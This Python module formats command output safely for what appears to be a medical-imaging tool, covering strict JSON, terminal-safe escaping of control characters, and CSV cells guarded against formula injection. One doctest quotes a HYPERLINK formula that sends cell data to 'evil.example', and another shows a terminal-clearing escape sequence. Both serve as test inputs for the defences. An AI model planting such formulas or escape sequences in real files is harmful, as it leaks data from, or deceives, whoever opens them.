"""What commands print and write: strict JSON for machines, text for people that shows every
name and header value as it is (rich markup never read from data), and CSV cells that a
spreadsheet opens as text, never as a formula."""

from __future__ import annotations

import json
import math
import re
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

from rich.markup import escape
from rich.table import Table


def strict_json(data: object) -> str:
    """``data`` as strict JSON (RFC 8259): a number that is not finite (NaN, infinity)
    becomes null, never the bare NaN or Infinity that other parsers refuse.

    Example:
        >>> print(strict_json({"auroc": float("nan"), "n": 3}))
        {
          "auroc": null,
          "n": 3
        }
    """
    return json.dumps(_finite(data), indent=2, default=str, allow_nan=False)


def pyplot() -> Any:
    """matplotlib's pyplot, drawing to files (no screen), with every text drawn as it is:
    a ``$`` in a site's name, a class or a folder is never read as mathtext, which would
    typeset it or fail on it (``Clinic $\\alpha^{$ North``)."""
    import matplotlib

    matplotlib.use("Agg")
    matplotlib.rcParams["text.parse_math"] = False
    import matplotlib.pyplot as plt

    return plt


#: Control characters (C0, DEL, C1): in a header value they would reach a terminal as
#: commands (ESC [2J clears it; OSC sequences retitle it) or fake a line of a log.
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")


def printable(text: str) -> str:
    r"""``text`` with every control character shown as its escape (``\x1b``), so that a
    value read from a file can be printed or logged without acting on the terminal.

    Example:
        >>> print(printable("GE\x1b[2J MEDICAL\r\nFAKE"))
        GE\x1b[2J MEDICAL\x0d\x0aFAKE
    """
    return _CONTROL.sub(lambda found: f"\\x{ord(found.group()):02x}", text)


def plain_row(table: Table, *cells: object) -> None:
    """Add a row of plain text: brackets in a header value or a folder name are shown as
    they are, never read as rich markup (which would restyle, hide or crash on them), and
    control characters as their escapes."""
    table.add_row(*(escape(printable(str(cell))) for cell in cells))


def _finite(data: object) -> object:
    if isinstance(data, float):
        return data if math.isfinite(data) else None
    if isinstance(data, Mapping):
        return {key: _finite(value) for key, value in data.items()}
    if isinstance(data, list | tuple):
        return [_finite(value) for value in data]
    if hasattr(data, "item") and callable(data.item):  # a NumPy scalar
        return _finite(data.item())
    return data


#: The first characters that make a spreadsheet read a cell as a formula (OWASP's CSV
#: injection rule): ``=HYPERLINK(...)`` in a DICOM attribute would run when the file opens.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> str:
    """``value`` as a CSV cell a spreadsheet shows as text: a cell beginning with ``=``,
    ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe (OWASP's
    rule), unless it is a plain number, which no spreadsheet runs.

    Example:
        >>> csv_cell('=HYPERLINK("http://evil.example/?d="&A1,"click")')[:12]
        "'=HYPERLINK("
        >>> csv_cell(-0.25), csv_cell("GE MEDICAL SYSTEMS"), csv_cell(None)
        ('-0.25', 'GE MEDICAL SYSTEMS', '')
    """
    text = "" if value is None else str(value)
    if not text.startswith(_FORMULA_STARTS):
        return text
    try:
        float(text)
    except ValueError:
        return "'" + text
    return text


def csv_row(values: Iterable[object]) -> list[str]:
    """Every cell of a row through :func:`csv_cell`."""
    return [csv_cell(value) for value in values]


def read_json_file(path: Path, what: str) -> Any:
    """The JSON document in ``path``, or a refusal that names the file and ``what`` it
    should have been (a file cut short by a full disk, or overwritten by something else,
    is bad input, not a bug).

    Raises:
        InvalidInputError: the file cannot be read, is not UTF-8 or is not JSON.
    """
    from medadapt.engine.contracts.errors import InvalidInputError

    try:
        return json.loads(path.read_text(encoding="utf-8"))
    except (UnicodeDecodeError, json.JSONDecodeError) as exc:
        raise InvalidInputError(
            f"{path}: not {what} (not valid JSON: {exc}); restore it, or remove it and run "
            "the command that writes it again"
        ) from None


def slug(text: str, fallback: str, limit: int | None = None) -> str:
    """``text`` as a folder name: lower case, each run of anything but letters and digits one
    hyphen, at most ``limit`` characters; ``fallback`` when nothing is left.

    Example:
        >>> slug("Hospital B (head CT)", "site"), slug("!!", "job")
        ('hospital-b-head-ct', 'job')
    """
    return (
        "-".join("".join(c if c.isalnum() else " " for c in text.lower()).split())[:limit]
        or fallback
    )
